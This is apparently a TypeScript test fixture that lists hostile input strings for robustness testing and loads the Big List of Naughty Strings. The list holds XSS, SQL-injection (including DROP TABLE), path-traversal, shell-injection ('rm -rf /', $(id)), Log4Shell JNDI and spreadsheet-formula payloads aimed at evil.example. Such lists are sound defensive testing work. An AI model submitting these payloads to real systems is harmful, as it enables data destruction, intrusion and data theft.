import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';

/** What people and machines type that has broken other programs; all of it is only text. */
export const hostileStrings: readonly string[] = [
  'a\u0000b',
  '\u0001\u0002\u0007\b\u000b\f\u001b[31mred\u007f\u0085\u009f',
  'a\rb\r\nc',
  'lone \ud800 half \udfff',
  '\u202eevil\u202c \u2066isolated\u2069 \u200fright',
  'zero\u200bwidth\u2060\ufeffjoiner\u00ad',
  'line\u2028and\u2029paragraph',
  '\ufffe\uffff \ufdd0 \u{10ffff}',
  '👩🏽‍🤝‍👨🏿 🏴󠁧󠁢󠁷󠁬󠁳󠁿 ❤️‍🔥',
  'Z̴̡̛͍͇a̷̢͝l̸̨͋g̵̛̫o̶̜͠',
  'مرحبا بالعالم שלום',
  'ŵyn Ŷ ﬁ İıẞ',
  '=1+1',
  '+44 1632 960001',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(A1:A9)',
  '\t=HYPERLINK("http://evil.example","x")',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' autofocus onfocus=alert(1) x='",
  '</textarea><script>alert(1)</script>',
  '</title><svg/onload=alert(1)>',
  'javascript:alert(1)',
  '<!--<script>-->]]><![CDATA[',
  "'; drop table care.person; --",
  "' or '1'='1",
  '%_\\%\\_ %00',
  '$$; select pg_sleep(9); $$',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '/dev/null; rm -rf / | `id` $(id)',
  `{{7*7}} ${'$'}{7*7} <%= 7*7 %> #{7*7}`,
  `${'$'}{jndi:ldap://evil.example/a}`,
  '%s%n%x%p %d',
  '&lt;b&gt; &amp;amp; &#60;',
  '__proto__',
  'constructor[prototype]',
  'null',
  'undefined',
  'NaN',
  '1e309',
  '-0',
  '99999999999999999999',
  '0x7fffffff',
  '2026-02-30T25:61:61Z',
  'Subject: x\r\nBcc: everybody@evil.example\r\n\r\nhello',
  '#let x = read("/etc/passwd") #x',
];

const list = join(import.meta.dirname, '../../../shared/data/hostile/blns/blns.json');

/** The Big List of Naughty Strings, where it lies beside this folder; else nothing, said loudly. */
export function naughtyStrings(): string[] {
  if (!existsSync(list)) {
    console.warn(`NOT TRIED: the Big List of Naughty Strings is not at ${list}`);
    return [];
  }
  return (JSON.parse(readFileSync(list, 'utf8')) as string[]).filter(Boolean);
}
